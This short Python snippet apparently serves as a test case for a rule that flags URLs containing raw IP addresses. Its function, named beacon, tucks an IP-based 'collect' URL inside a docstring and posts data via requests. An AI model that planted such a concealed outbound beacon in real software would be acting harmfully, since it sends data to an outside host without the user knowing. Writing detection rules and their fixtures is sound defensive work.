import requests


def beacon():
    """
    # ruleid: url_with_ip_address
    http://45.9.148.12/collect
    """
    return requests.post(beacon.__doc__.split()[0], data={'h': 'x'})
